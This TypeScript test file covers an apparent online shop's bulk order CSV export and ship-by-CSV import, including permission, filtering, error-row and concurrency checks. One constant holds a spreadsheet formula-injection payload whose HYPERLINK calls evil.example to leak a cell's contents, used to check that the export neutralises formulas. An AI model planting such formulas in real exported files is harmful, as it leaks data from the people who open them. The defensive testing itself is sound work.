import { MAX_SHIP_IMPORT_ROWS, ORDER_EXPORT_COLUMNS, type ShipImportDto } from '@shop/contract/order-bulk';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, call, engine, type TestApp } from '../../../test/helper.ts';
import { buyNow, operatorToken, pay } from '../../../test/order-fixture.ts';
import { sellerMarket, type TestSeller } from '../../../test/seller-fixture.ts';
import { translate } from '../../lib/i18n.ts';
import { multipartBody } from '../upload/upload-fixtures.ts';

type Column = (typeof ORDER_EXPORT_COLUMNS)[number];
type Row = Record<Column, string>;
type Placed = { id: number; no: string };

const RECEIVER = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
const REMARK = '@SUM(1+1) leave at the door';

/**
 * Bulk order work (docs/domain.md#bulk-order-work): the order export as CSV for a seller (its own shop) and for the
 * console's fulfilment operators (any shop), and shipping by CSV upload, row by row through the one ship path.
 */
describe(`bulk order work (${engine})`, { timeout: 240_000 }, () => {
  let t: TestApp;
  let market: Awaited<ReturnType<typeof sellerMarket>>;
  let alder: TestSeller;
  let birch: TestSeller;
  let fulfilment: string;
  let alderSku: { bowl: number; cup: number };
  let birchSku: number;
  /** Alder's two-line paid order to the formula address, Alder's unpaid one, Birch's paid one. */
  const order = { twoLines: { id: 0, no: '' }, unpaid: { id: 0, no: '' }, birch: { id: 0, no: '' } };

  async function exportAs(url: string, token: string, query: Record<string, string> = {}) {
    return t.app.inject({ method: 'GET', url, query, headers: { token } });
  }
  const rowsOf = (csv: string): Row[] => parse(csv, { columns: true }) as Row[];

  async function shipImport(url: string, token: string, text: string, lang = 'en') {
    const { body, contentType } = multipartBody([
      { field: 'file', filename: 'ship.csv', contentType: 'text/csv', data: Buffer.from(text, 'utf8') },
    ]);
    const res = await t.app.inject({
      method: 'POST',
      url,
      headers: { token, lang, 'content-type': contentType },
      payload: body,
    });
    return { status: res.statusCode, ...(res.json() as { code: number; msg: string; data: any }) };
  }
  const sellerImport = (s: TestSeller, text: string, lang?: string) =>
    shipImport('/api/seller/orders/ship_import', s.token, text, lang);

  async function orderNoOf(id: number): Promise<string> {
    const row = await t.db.selectFrom('orders').select('order_no').where('id', '=', id).executeTakeFirstOrThrow();
    return row.order_no;
  }
  async function paidOrders(sku: number, count: number) {
    const list: Placed[] = [];
    for (let i = 0; i < count; i += 1) {
      const paid = await market.paidOrder(sku);
      list.push({ id: paid.id, no: await orderNoOf(paid.id) });
    }
    return list;
  }
  async function shipState(id: number) {
    return t.db
      .selectFrom('orders')
      .select(['status', 'carrier', 'tracking_no'])
      .where('id', '=', id)
      .executeTakeFirstOrThrow();
  }
  async function shippedEvents(ids: number[]) {
    const rows = await t.db
      .selectFrom('logistics_events')
      .select(['order_id'])
      .where('order_id', 'in', ids)
      .where('kind', '=', 'shipped')
      .execute();
    return ids.map((id) => rows.filter((row) => row.order_id === id).length);
  }
  const file = (header: string[], rows: string[][]) => stringify([header, ...rows]);

  beforeAll(async () => {
    t = await buildTestApp();
    market = await sellerMarket(t);
    fulfilment = await operatorToken(t.app, t.db, ['fulfilment']);
    alder = await market.approvedSeller('Alder Pottery');
    birch = await market.approvedSeller('Birch Goods');
    const bowl = await market.product(alder, '12.50', 500);
    const cup = await market.product(alder, '3.00', 500);
    alderSku = { bowl: bowl.sku, cup: cup.sku };
    birchSku = (await market.product(birch, '7.00', 500)).sku;

    // The shopper names a formula as the receiver and writes a formula-like remark: both reach the seller's file.
    const { shopper } = market;
    const address = await call(t.app, 'POST', '/api/user/address_add', {
      token: shopper.token,
      body: {
        addressee: RECEIVER,
        mobile: '+86 138 1234 5678',
        country: 'CN',
        area: '上海市 浦东新区',
        detail: '世纪大道1001号, "B" 栋\n1502室',
        tag: 'home',
      },
    });
    expect(address.code, address.msg).toBe(1);
    for (const [sku, quantity] of [
      [alderSku.bowl, 2],
      [alderSku.cup, 1],
    ]) {
      const added = await call(t.app, 'POST', '/api/cart/add', {
        token: shopper.token,
        body: { sku_id: sku, quantity },
      });
      expect(added.code, added.msg).toBe(1);
    }
    const created = await call(t.app, 'POST', '/api/order/create', {
      token: shopper.token,
      body: { source: { cart: true }, address_id: address.data.id, remark: REMARK },
    });
    expect(created.code, created.msg).toBe(1);
    expect(created.data.orders).toHaveLength(1);
    order.twoLines = { id: created.data.orders[0].id, no: created.data.orders[0].order_no };
    expect((await pay(t.app, shopper, [order.twoLines.id])).code).toBe(1);

    const unpaid = await buyNow(t.app, shopper, alderSku.bowl, 1);
    expect(unpaid.code, unpaid.msg).toBe(1);
    order.unpaid = { id: unpaid.data.orders[0].id, no: unpaid.data.orders[0].order_no };

    const birchPaid = await market.paidOrder(birchSku);
    order.birch = { id: birchPaid.id, no: await orderNoOf(birchPaid.id) };
  });
  afterAll(() => t.close());

  describe('export', () => {
    it("gives a seller its own shop's orders, one row per line, newest first, formulas defused", async () => {
      const res = await exportAs('/api/seller/orders/export', alder.token);
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toMatch(/^attachment; filename="orders-\d{8}-\d{4}\.csv"$/);
      expect(res.rawPayload[0]).not.toBe(0xef); // no byte-order mark
      const cells = parse(res.body) as string[][];
      expect(cells[0]).toEqual([...ORDER_EXPORT_COLUMNS]);
      // csv-parse reads back exactly the cells that were written (RFC 4180, CR LF between records).
      expect(stringify(cells, { record_delimiter: '\r\n' })).toBe(res.body);

      const rows = rowsOf(res.body);
      expect(rows.map((row) => row.order_no)).toEqual([order.unpaid.no, order.twoLines.no, order.twoLines.no]);
      expect(rows.some((row) => row.order_no === order.birch.no)).toBe(false);

      // The two-line order's rows in the order of its lines (the cart's order).
      const [unpaid] = rows as [Row];
      const lines = rows.filter((row) => row.order_no === order.twoLines.no);
      const bowl = lines.find((row) => row.unit_price === '12.50') as Row;
      const cup = lines.find((row) => row.unit_price === '3.00') as Row;
      expect(unpaid.status).toBe('0');
      expect(unpaid.paid_at).toBe('');
      expect(bowl).toMatchObject({
        status: '1',
        shop: 'Alder Pottery',
        receiver: `'${RECEIVER}`,
        phone: "'+86 138 1234 5678",
        country: 'CN',
        area: '上海市 浦东新区',
        address: '世纪大道1001号, "B" 栋\n1502室',
        quantity: '2',
        unit_price: '12.50',
        line_total: '25.00',
        goods: '28.00',
        shop_discount: '0.00',
        promo_discount: '0.00',
        carrier: '',
        tracking_no: '',
        shipped_at: '',
        remark: `'${REMARK}`,
      });
      expect(cup).toMatchObject({ quantity: '1', unit_price: '3.00', line_total: '3.00', remark: `'${REMARK}` });
      expect(bowl.product).toMatch(/^Stoneware bowl /);
      expect(bowl.product_code).not.toBe('');
      expect(bowl.created_at).toBe(new Date(bowl.created_at).toISOString());
      expect(bowl.paid_at).toBe(new Date(bowl.paid_at).toISOString());
      const detail = await call(t.app, 'GET', '/api/seller/order', {
        token: alder.token,
        query: { id: order.twoLines.id },
      });
      expect(bowl.order_total).toBe(detail.data.total);
      expect(bowl.freight).toBe(detail.data.freight);
    });

    it("honours the list's filters", async () => {
      const unpaidOnly = rowsOf((await exportAs('/api/seller/orders/export', alder.token, { status: '0' })).body);
      expect(unpaidOnly.map((row) => row.order_no)).toEqual([order.unpaid.no]);
      const byNo = rowsOf(
        (await exportAs('/api/seller/orders/export', alder.token, { order_no: order.twoLines.no })).body,
      );
      expect(byNo.map((row) => row.order_no)).toEqual([order.twoLines.no, order.twoLines.no]);
      // Another shop's order number finds nothing: the header alone.
      const other = await exportAs('/api/seller/orders/export', alder.token, { order_no: order.birch.no });
      expect(rowsOf(other.body)).toEqual([]);
      expect(parse(other.body)).toEqual([[...ORDER_EXPORT_COLUMNS]]);
    });

    it('gives fulfilment operators every shop, and refuses operators without fulfilment', async () => {
      const res = await exportAs('/api/console/orders/export', fulfilment);
      expect(res.statusCode).toBe(200);
      const numbers = new Set(rowsOf(res.body).map((row) => row.order_no));
      for (const o of Object.values(order)) expect(numbers.has(o.no), o.no).toBe(true);
      const birchOnly = rowsOf(
        (await exportAs('/api/console/orders/export', fulfilment, { order_no: order.birch.no })).body,
      );
      expect(birchOnly.map((row) => [row.order_no, row.shop])).toEqual([[order.birch.no, 'Birch Goods']]);

      const refused = await exportAs('/api/console/orders/export', market.catalogue);
      expect(refused.statusCode).toBe(403);
      const seller = await exportAs('/api/console/orders/export', alder.token);
      expect(seller.statusCode).toBe(403);
    });
  });

  describe('ship import', () => {
    it('ships 20 paid orders from one file, and ships nothing again when the file comes back', async () => {
      const orders = await paidOrders(alderSku.bowl, 20);
      // Columns in another order, one the import does not read, a byte-order mark: all fine.
      const text = `\uFEFF${file(
        ['tracking_no', 'note', 'carrier', 'order_no'],
        orders.map((o, i) => [`SF${1000 + i}`, 'fragile', 'SF Express', o.no]),
      )}`;
      const first = await sellerImport(alder, text);
      expect(first.code, first.msg).toBe(1);
      expect(first.data).toEqual({ shipped: 20, unchanged: 0, errors: [] } satisfies ShipImportDto);
      for (const [i, o] of orders.entries())
        expect(await shipState(o.id)).toEqual({ status: 2, carrier: 'SF Express', tracking_no: `SF${1000 + i}` });
      expect(await shippedEvents(orders.map((o) => o.id))).toEqual(orders.map(() => 1));
      const detail = await call(t.app, 'GET', '/api/order/detail', {
        token: market.shopper.token,
        query: { id: orders[0]?.id ?? 0 },
      });
      expect(detail.data.status).toBe(2);

      const again = await sellerImport(alder, text);
      expect(again.data).toEqual({ shipped: 0, unchanged: 20, errors: [] });
      expect(await shippedEvents(orders.map((o) => o.id))).toEqual(orders.map(() => 1));
    });

    it('reports each bad row with its line and message while the good rows ship', async () => {
      const [good, twice, tooLong, noTracking, conflict] = (await paidOrders(alderSku.cup, 5)) as [
        Placed,
        Placed,
        Placed,
        Placed,
        Placed,
      ];
      const text = file(
        ['order_no', 'carrier', 'tracking_no'],
        [
          [good.no, 'DHL', 'D-1'], // line 2
          ['20990101000000', 'DHL', 'D-2'], // line 3: no such order
          [order.birch.no, 'DHL', 'D-3'], // line 4: another shop's
          [order.unpaid.no, 'DHL', 'D-4'], // line 5: not paid
          [noTracking.no, 'DHL', '  '], // line 6
          [tooLong.no, 'C'.repeat(61), 'D-6'], // line 7
          [twice.no, 'UPS', 'U-1'], // line 8: one order on two rows, one shipment
          [twice.no, ' UPS ', 'U-1'], // line 9
          [conflict.no, 'UPS', 'U-2'], // line 10: the same order with two tracking numbers
          [conflict.no, 'UPS', 'U-3'], // line 11
          ['', 'UPS', 'U-4'], // line 12: no order number
        ],
      );
      const res = await sellerImport(alder, text, 'zh-CN');
      expect(res.code, res.msg).toBe(1);
      const zh = (key: string, params?: Record<string, string>) => translate('zh-CN', key, params);
      expect(res.data).toEqual({
        shipped: 2,
        unchanged: 0,
        errors: [
          { row: 3, order_no: '20990101000000', message: zh('errors.ORDER_NOT_FOUND') },
          { row: 4, order_no: order.birch.no, message: zh('errors.ORDER_NOT_FOUND') },
          { row: 5, order_no: order.unpaid.no, message: zh('errors.ORDER_STATUS_CHANGED') },
          { row: 6, order_no: noTracking.no, message: zh('validation.invalidField', { field: 'tracking_no' }) },
          { row: 7, order_no: tooLong.no, message: `carrier: ${zh('validation.tooLong')}` },
          { row: 10, order_no: conflict.no, message: zh('validation.shipConflictInCsv', { order_no: conflict.no }) },
          { row: 11, order_no: conflict.no, message: zh('validation.shipConflictInCsv', { order_no: conflict.no }) },
          { row: 12, order_no: '', message: zh('validation.invalidField', { field: 'order_no' }) },
        ],
      } satisfies ShipImportDto);
      expect(await shipState(good.id)).toEqual({ status: 2, carrier: 'DHL', tracking_no: 'D-1' });
      expect(await shipState(twice.id)).toEqual({ status: 2, carrier: 'UPS', tracking_no: 'U-1' });
      for (const id of [noTracking.id, tooLong.id, conflict.id, order.birch.id])
        expect((await shipState(id ?? 0)).status, String(id)).toBe(1);
      expect((await shipState(order.unpaid.id)).status).toBe(0);
      expect(await shippedEvents([twice.id])).toEqual([1]);
    });

    it('counts line numbers in the file, across quoted line breaks and blank lines', async () => {
      const text =
        'note,order_no,carrier,tracking_no\r\n"two\r\nlines",20990101000001,DHL,X\r\n\r\n,20990101000002,DHL,Y\r\n';
      const res = await sellerImport(alder, text);
      expect(res.data.errors.map((e: { row: number }) => e.row)).toEqual([2, 5]);
    });

    it('ships each order once when the same file is sent twice at the same time', async () => {
      const orders = await paidOrders(alderSku.bowl, 6);
      const text = file(
        ['order_no', 'carrier', 'tracking_no'],
        orders.map((o) => [o.no, 'EMS', `E${o.id}`]),
      );
      const [a, b] = await Promise.all([sellerImport(alder, text), sellerImport(alder, text)]);
      expect(a.data.errors).toEqual([]);
      expect(b.data.errors).toEqual([]);
      expect(a.data.shipped + b.data.shipped).toBe(6);
      expect(a.data.unchanged + b.data.unchanged).toBe(6);
      expect(await shippedEvents(orders.map((o) => o.id))).toEqual(orders.map(() => 1));
      const events = await t.db
        .selectFrom('order_events')
        .select('order_id')
        .where(
          'order_id',
          'in',
          orders.map((o) => o.id),
        )
        .where('status', '=', 2)
        .execute();
      expect(events).toHaveLength(6);
    });

    it('imports an edited export: one shipment for the rows of a two-line order', async () => {
      const exported = parse(
        (await exportAs('/api/seller/orders/export', alder.token, { order_no: order.twoLines.no })).body,
      ) as string[][];
      const header = exported[0] ?? [];
      const carrierAt = header.indexOf('carrier');
      const trackingAt = header.indexOf('tracking_no');
      const edited = exported.map((cells, i) =>
        i === 0 ? cells : cells.map((cell, at) => (at === carrierAt ? 'YTO' : at === trackingAt ? 'YT-77' : cell)),
      );
      expect(edited).toHaveLength(3);
      const res = await sellerImport(alder, stringify(edited));
      expect(res.data).toEqual({ shipped: 1, unchanged: 0, errors: [] });
      expect(await shipState(order.twoLines.id)).toEqual({ status: 2, carrier: 'YTO', tracking_no: 'YT-77' });
    });

    it('refuses a file without a required column, naming it, and a file of too many rows', async () => {
      const [waiting] = await paidOrders(alderSku.cup, 1);
      const missing = await sellerImport(alder, file(['order_no', 'carrier'], [[waiting?.no ?? '', 'DHL']]), 'ri');
      expect(missing.code).toBe(0);
      expect(missing.data.error).toBe('SHIP_CSV_COLUMN_MISSING');
      expect(missing.msg).toBe(translate('ri', 'errors.SHIP_CSV_COLUMN_MISSING', { column: 'tracking_no' }));
      expect(missing.msg).toContain('tracking_no');
      expect((await shipState(waiting?.id ?? 0)).status).toBe(1);

      const rows = Array.from({ length: MAX_SHIP_IMPORT_ROWS + 1 }, (_, i) => [`2099${i}`, 'DHL', `T${i}`]);
      const tooMany = await sellerImport(alder, file(['order_no', 'carrier', 'tracking_no'], rows));
      expect(tooMany.data.error).toBe('SHIP_CSV_TOO_MANY_ROWS');
      const unreadable = await sellerImport(alder, 'order_no,carrier,tracking_no\n"unclosed,DHL,T1\n');
      expect(unreadable.data.error).toBe('SHIP_CSV_INVALID');
    });

    it("never lets a seller ship another shop's order; a fulfilment operator ships any shop's", async () => {
      const [birchOrder] = await paidOrders(birchSku, 1);
      const text = file(['order_no', 'carrier', 'tracking_no'], [[birchOrder?.no ?? '', 'DHL', 'B-1']]);
      const bySeller = await sellerImport(alder, text);
      expect(bySeller.data).toEqual({
        shipped: 0,
        unchanged: 0,
        errors: [{ row: 2, order_no: birchOrder?.no, message: translate('en', 'errors.ORDER_NOT_FOUND') }],
      });
      expect((await shipState(birchOrder?.id ?? 0)).status).toBe(1);

      const refused = await shipImport('/api/console/orders/ship_import', market.catalogue, text);
      expect(refused.status).toBe(403);
      const byOperator = await shipImport('/api/console/orders/ship_import', fulfilment, text);
      expect(byOperator.data).toEqual({ shipped: 1, unchanged: 0, errors: [] });
      expect(await shipState(birchOrder?.id ?? 0)).toEqual({ status: 2, carrier: 'DHL', tracking_no: 'B-1' });
      const audit = await t.db
        .selectFrom('audit_log')
        .select('action')
        .where('target_type', '=', 'order')
        .where('target_id', '=', birchOrder?.id ?? 0)
        .execute();
      expect(audit.map((row) => row.action)).toEqual(['order.ship']);
      // Birch's seller sees it shipped once, and the same file again changes nothing.
      const again = await sellerImport(birch, text);
      expect(again.data).toEqual({ shipped: 0, unchanged: 1, errors: [] });
    });
  });
});
